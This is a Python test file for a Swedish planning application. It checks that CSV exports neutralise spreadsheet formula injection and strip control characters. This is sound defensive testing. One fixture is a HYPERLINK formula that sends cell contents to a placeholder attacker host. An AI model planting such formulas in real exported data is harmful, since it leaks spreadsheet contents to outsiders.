"""The overview CSVs neutralise what users typed: a text that a spreadsheet would read as a
formula (it begins with = + - @, a tab or a carriage return) starts with a single quote, control
characters are left out, and the counts stay numbers."""

import csv
import datetime
import io

import pytest
import time_machine
from django.urls import reverse

from vplan.neutralise import FORMULA_STARTS
from vplan.testing.factories import (
    make_activity,
    make_assignment,
    make_board_goal,
    make_municipal_goal,
    make_plan,
    make_round,
    report,
)

HYPERLINK = '=HYPERLINK("http://angripare.example/?d="&A2;"Klicka här")'
GOAL = "+46 procent fler läsare"
ACTIVITY = "@SUMMA(A1:A9) ska minska"
CARRIED = "-Kvarstår sedan länge"
WITH_CONTROLS = "Läsa\u0001 mer\u000b"


@pytest.fixture
def typed(administration, board, controller):
    """Plans 2022-2024; the 2024 activities end in March 2024 and are not done, one of them was
    carried over twice."""
    plans = {
        year: make_plan(administration=administration, year=year, boards=[board])
        for year in (2022, 2023, 2024)
    }
    carried = None
    for plan in plans.values():
        carried = make_activity(
            plan=plan, text=CARRIED, boards=[board], decided_end="Mars", carried_over_from=carried
        )
    plan = plans[2024]
    goal = make_board_goal(
        plan=plan, municipal_goal=make_municipal_goal(plan=plan, title=HYPERLINK), title=GOAL
    )
    linked = make_activity(
        plan=plan, text=ACTIVITY, boards=[board], decided_end="Mars", board_goal=goal
    )
    controls = make_activity(plan=plan, text=WITH_CONTROLS, boards=[board], decided_end="Mars")
    assignment = make_assignment(plan=plan, number=7, text=HYPERLINK)
    make_activity(plan=plan, text="Inom uppdraget", boards=[board], assignment=assignment)
    round = make_round(plan=plan, as_of=datetime.date(2024, 3, 31))
    for activity in (linked, controls):
        report(activity=activity, round=round, status="Pågående", author=controller)
    return administration


def csv_rows(client, page: str, administration, **params) -> list[list[str]]:
    url = reverse(f"overviews:{page}", args=[administration.pk])
    with time_machine.travel(datetime.datetime(2025, 1, 15, 12, tzinfo=datetime.UTC)):
        response = client.get(url, {"format": "csv", **params})
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def assert_no_cell_begins_like_a_formula(rows) -> None:
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)] == []


def test_status_csv_by_goal_and_assignment_prefixes_typed_labels(client, typed, controller):
    client.force_login(controller)

    for by, expected in (
        ("municipal_goal", HYPERLINK),
        ("board_goal", GOAL),
    ):
        rows = csv_rows(client, "status", typed, year=2024, by=by)
        assert_no_cell_begins_like_a_formula(rows)
        assert "'" + expected in [row[0] for row in rows], by
        assert rows[-1][-1] == "4"  # the total count, a number as written

    rows = csv_rows(client, "status", typed, year=2024, by="assignment")
    assert_no_cell_begins_like_a_formula(rows)


def test_overdue_csv_prefixes_activity_texts_and_drops_control_characters(
    client, typed, controller
):
    client.force_login(controller)

    rows = csv_rows(client, "overdue", typed, year=2024)

    assert_no_cell_begins_like_a_formula(rows)
    texts = [row[2] for row in rows[1:]]
    assert "'" + ACTIVITY in texts and "'" + CARRIED in texts
    assert "Läsa mer\n" in texts
    assert not any("\u0001" in cell or "\u000b" in cell for row in rows for cell in row)


def test_chronic_csv_prefixes_the_text_of_an_activity_carried_over_twice(client, typed, controller):
    client.force_login(controller)

    rows = csv_rows(client, "chronic", typed)

    assert_no_cell_begins_like_a_formula(rows)
    assert ["'" + CARRIED] == [row[2] for row in rows[1:]]
    assert rows[1][1] == "2024" and rows[1][4] == "2"
